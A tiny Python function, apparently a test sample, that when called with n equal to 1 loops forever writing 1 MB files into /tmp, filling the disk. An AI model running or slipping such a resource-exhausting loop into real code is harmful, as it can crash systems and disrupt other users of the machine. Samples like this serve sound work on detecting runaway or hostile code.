import os


def f(n):
    number = 0
    while n == 1:
        number += 1
        with open(f"/tmp/{number}", "wb") as file:
            file.write(b"x" * (1 << 20))
    return len(os.listdir("/tmp"))
